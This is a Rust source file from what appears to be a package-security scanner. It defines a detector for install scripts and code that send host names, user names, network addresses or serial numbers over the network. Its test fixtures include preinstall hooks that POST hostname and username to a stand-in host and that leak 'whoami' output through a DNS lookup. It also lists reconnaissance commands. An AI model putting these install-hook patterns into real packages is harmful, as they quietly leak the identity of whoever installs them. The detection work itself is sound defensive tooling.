//! What names the machine and its user leaves over the network.

use std::collections::BTreeMap;

use super::judge::{self, ByTrigger};
use super::{Context, Declaration, Example, Finding, runs_on_install};
use crate::flow::{End, Flow};
use crate::model::{Severity, SurfaceKind};

pub(super) static FINDING: Declaration = Declaration {
    id: "host-identity-exfiltration",
    title: "Tells a stranger which machine and which user it is on",
    severity: Severity::High,
    summary: "Facts that name the machine or its user (host name, user name, home folder, network addresses, serial numbers) reach a request, a socket or a DNS query.",
    advice: "No package needs these to be installed or imported. Look at the host that gets them; if the name of the package is one that your company uses internally, somebody may have taken it.",
    benign_when: "A tool that reports crashes or usage says so, and its user can switch it off.",
    references: &["CWE-200", "CWE-506", "T1033", "T1041", "T1082"],
    examples: &[
        Example {
            name: "an install script posts host and user",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","scripts":{"preinstall":"node i.js"}}"#,
                ),
                (
                    "i.js",
                    r#"const os = require("os");
fetch("https://collect.invalid/", { method: "POST", body: JSON.stringify({ h: os.hostname(), u: os.userInfo().username }) });"#,
                ),
            ],
        },
        Example {
            name: "an install script asks the DNS for a name with the user in it",
            severity: Some(Severity::High),
            files: &[(
                "package.json",
                r#"{"name":"a","version":"1.0.0","scripts":{"preinstall":"nslookup $(whoami).oob.invalid"}}"#,
            )],
        },
        Example {
            name: "a function sends the name of the machine along with errors",
            severity: Some(Severity::Low),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const os = require("os");
exports.report = (e) => fetch("https://errors.example/", { method: "POST", body: JSON.stringify({ e, server: os.hostname() }) });"#,
                ),
            ],
        },
        Example {
            name: "an installer names the platform in its request",
            severity: None,
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"node i.js"}}"#,
                ),
                (
                    "i.js",
                    r#"fetch(`https://files.example/${process.platform}-${process.arch}.json`).then((r) => r.json());"#,
                ),
            ],
        },
    ],
    detect,
};

fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
    let mut sinks: BTreeMap<&End, Vec<(&'static str, &Flow)>> = BTreeMap::new();
    for flow in context
        .flows
        .iter()
        .filter(|flow| flow.id == "host-to-network")
    {
        if let Some(kind) = flow.source.target.as_deref().and_then(names) {
            sinks.entry(&flow.sink).or_default().push((kind, flow));
        }
    }
    for (sink, told) in sinks {
        found.extend(of_sink(context, sink, &told));
    }
}

fn of_sink(context: &Context<'_>, sink: &End, told: &[(&'static str, &Flow)]) -> Option<Finding> {
    let (_, first) = told.first()?;
    let mut kinds: Vec<&str> = told.iter().map(|(kind, _)| *kind).collect();
    kinds.sort_unstable();
    kinds.dedup();
    let host = sink
        .target
        .as_deref()
        .unwrap_or("a host that is not resolved");
    let message = format!("tells {host} {}", kinds.join(", "));
    let mut finding = Finding::of_flow(&FINDING, first, message);
    finding.parts = vec![
        sink.target.as_deref().unwrap_or_default().to_owned(),
        kinds.join(","),
    ];
    for (_, flow) in told {
        finding.reach.join(flow.reach);
        finding
            .evidence
            .extend(flow.steps.iter().map(|step| step.place));
    }
    finding.evidence.sort_unstable();
    finding.evidence.dedup();
    let is_dns = sink.id == "network.dns";
    if kinds.len() < 2 && !(is_dns && runs_on_install(finding.reach)) {
        let at_most = if runs_on_install(finding.reach) {
            Severity::Medium
        } else {
            Severity::Low
        };
        let note = "one fact alone names nobody for sure".to_owned();
        finding.lower(at_most, "one-fact", note);
    }
    if !finding.reach.loads_on(SurfaceKind::Bin) {
        let at_most = ByTrigger {
            import: Severity::High,
            asked: Severity::Low,
        };
        judge::by_trigger(at_most, &mut finding);
    }
    judge::by_destination(context, first, sink, Severity::Low, &mut finding);
    Some(finding)
}

/// What a source tells of the machine or its user, if it could name them.
fn names(source: &str) -> Option<&'static str> {
    let first = source.split_whitespace().next().unwrap_or("");
    let program = first.rsplit(['/', '\\']).next().unwrap_or(first);
    Some(match program.trim_end_matches(".exe") {
        "hostname" | "uname" | "hostnamectl" | "scutil" => "the machine's name",
        "user" | "whoami" | "id" | "home" | "who" | "logname" | "dscl" | "fullname" => {
            "the user's name"
        }
        "addresses" | "ip" | "ipconfig" | "ifconfig" | "arp" | "netstat" | "getmac" => {
            "network addresses"
        }
        "name-servers" => "name servers",
        "machine-id" | "wmic" | "ioreg" | "dmidecode" | "systeminfo" => "serial numbers",
        _ => return None,
    })
}
